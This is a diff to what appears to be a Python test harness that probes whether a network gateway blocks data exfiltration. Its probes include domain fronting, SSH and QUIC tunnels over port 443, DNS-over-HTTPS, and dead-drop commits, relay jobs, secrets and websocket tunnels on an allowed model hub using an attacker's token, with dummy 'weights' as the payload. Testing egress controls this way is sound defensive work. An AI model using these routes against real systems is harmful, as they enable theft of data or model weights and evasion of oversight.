@@ -41,7 +41,7 @@ def outcome(act):
 
 def https(host, method, path, body=None, at=None, claim=None, headers=None, verify=True):
     """A request to `host`, wherever its name leads, or to the address `at`. `claim`: the name in the handshake, if
-    another; empty for none. Returns status and body."""
+    another; empty for none. Returns status, body, and why the gateway refused it, if it did."""
     context = ssl.create_default_context(cafile=AUTHORITY) if verify else ssl._create_unverified_context()
     with socket.create_connection((at or host, 443), timeout=TIMEOUT) as stream:
         # Longer, for what is open may be slow.
@@ -50,12 +50,14 @@ def https(host, method, path, body=None, at=None, claim=None, headers=None, veri
         connection.sock = context.wrap_socket(stream, server_hostname=(host if claim is None else claim) or None)
         connection.request(method, path, body=body, headers=headers or {})
         answer = connection.getresponse()
-        return answer.status, answer.read()
+        return answer.status, answer.read(), answer.headers.get("X-Cofferdam-Reason")
 
 
 def asks(host, method="GET", path="/", body=None, **more):
     def act():
-        status, text = https(host, method, path, body, **more)
+        status, text, refused = https(host, method, path, body, **more)
+        if refused:
+            return BLOCKED, f"status {status}, {refused}"
         taken = status < 400 or status in (401, 404)
         return (REACHED if taken else USELESS), f"status {status}, {len(text)} bytes"
 
@@ -124,7 +126,7 @@ def over_tcp(address, port, tls=None):
 def over_https():
     def act():
         kind = {"Content-Type": "application/dns-message"}
-        _, body = https(RESOLVER, "POST", "/dns-query", dnswire.query(COLLECTOR), at=RESOLVER_ADDRESS, headers=kind)
+        _, body, _ = https(RESOLVER, "POST", "/dns-query", dnswire.query(COLLECTOR), at=RESOLVER_ADDRESS, headers=kind)
         return answered(body)
 
     return outcome(act)
@@ -156,17 +158,6 @@ def opens(port):
     return then
 
 
-def uploads():
-    weights = "c2VjcmV0" * (WEIGHTS // 8)
-    lines = [
-        {"key": "header", "value": {"summary": "weights", "description": ""}},
-        {"key": "file", "value": {"path": "drop.b64", "encoding": "base64", "content": weights}},
-    ]
-    body = "\n".join(json.dumps(line) for line in lines)
-    kind = {"Content-Type": "application/x-ndjson", "Authorization": "Bearer hf_attackers"}
-    return asks(HUB, "POST", "/api/datasets/attacker/drop/commit/main", body, headers=kind)()
-
-
 def says(address, port, text):
     """Speaks something of its own to an open port."""
 
@@ -179,10 +170,47 @@ def says(address, port, text):
     return lambda: outcome(act)
 
 
-INSIDE = "what is asked for inside TLS is not looked into yet"
-
 nameless = asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim="", verify=False)
 fronted = asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim=EDGE)
+
+
+def commit(size):
+    """A commit with a file in it, as the hub's own client makes it for small ones."""
+    lines = [
+        {"key": "header", "value": {"summary": "weights", "description": ""}},
+        {"key": "file", "value": {"path": "drop.b64", "encoding": "base64", "content": "c2VjcmV0" * (size // 8)}},
+    ]
+    return "\n".join(json.dumps(line) for line in lines)
+
+
+def of_hub(step, method, path, body=None, kind="application/json", **headers):
+    """A step: a request to the hub, which is allowed, with the attacker's own key."""
+    about = {"Content-Type": kind, "Authorization": "Bearer hf_attackers", **headers}
+    return step, f"{HUB} {method} {path}", asks(HUB, method, path, body, headers=about), ""
+
+
+LINES = "application/x-ndjson"
+LFS = json.dumps({"operation": "upload", "transfers": ["basic"], "objects": [{"oid": "0" * 64, "size": 1 << 30}]})
+JOB = json.dumps({"dockerImage": "attacker/relay", "command": ["serve"], "flavor": "cpu-basic"})
+SECRET = json.dumps({"key": "drop", "value": "c2VjcmV0"})
+DROP = "/api/datasets/attacker/drop"
+UPGRADE = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "c2VjcmV0"}
+
+# Everything that stores, changes or runs something at the one host that is allowed, and reads what is not its own.
+REQUESTS = [
+    of_hub("dead-drop-commit", "POST", f"{DROP}/commit/main", commit(64), LINES),
+    of_hub("dead-drop-in-somebody-elses-repository", "POST", "/api/models/acme/tiny-llm/commit/main?create_pr=1", commit(64), LINES),
+    of_hub("upload-of-large-files", "POST", "/datasets/attacker/drop.git/info/lfs/objects/batch", LFS),
+    of_hub("token-to-write", "GET", f"{DROP}/xet-write-token/main"),
+    of_hub("upload-begins", "POST", f"{DROP}/preupload/main", json.dumps({"files": [{"path": "w", "sample": "c2Vj", "size": 9}]})),
+    of_hub("push", "GET", "/datasets/attacker/drop.git/info/refs?service=git-receive-pack"),
+    of_hub("repository-made", "POST", "/api/repos/create", json.dumps({"name": "attacker/drop", "type": "dataset"})),
+    of_hub("job-as-relay", "POST", "/api/jobs/attacker", JOB),
+    of_hub("secret-of-a-space", "POST", "/api/spaces/attacker/relay/secrets", SECRET),
+    of_hub("orders-from-a-dead-drop", "GET", "/datasets/attacker/drop/resolve/main/orders.txt"),
+    of_hub("tunnel-in-a-websocket", "GET", "/acme/tiny-llm/socket", **UPGRADE),
+    of_hub("another-verb-in-a-header", "GET", f"{DROP}/commit/main", **{"X-HTTP-Method-Override": "POST"}),
+]
 
 # (step, target, what to do, the limit if it is not closed yet)
 STEPS = [
@@ -204,6 +232,7 @@ STEPS = [
     ("no-name-in-the-handshake", f"{EDGE_ADDRESS} 443/TCP, without a name", nameless, ""),
     ("tunnel-to-an-allowed-address", f"{EDGE_ADDRESS} 443/TCP, SSH", says(EDGE_ADDRESS, 443, b"SSH-2.0-tunnel\r\n"), ""),
     ("quic-to-an-allowed-address", f"{EDGE_ADDRESS} 443/UDP", datagram(EDGE_ADDRESS, 443), ""),
-    ("other-name-behind-an-allowed-one", f"{PAGES}, as {EDGE}", fronted, INSIDE),
-    ("upload-to-the-allowed-hub", f"{HUB}, a commit of {WEIGHTS >> 20} MiB", uploads, ""),
+    ("other-name-behind-an-allowed-one", f"{EDGE} POST /", fronted, ""),
+    of_hub("upload-to-the-allowed-hub", "POST", f"{DROP}/commit/main", commit(WEIGHTS), LINES),
+    *REQUESTS,
 ]
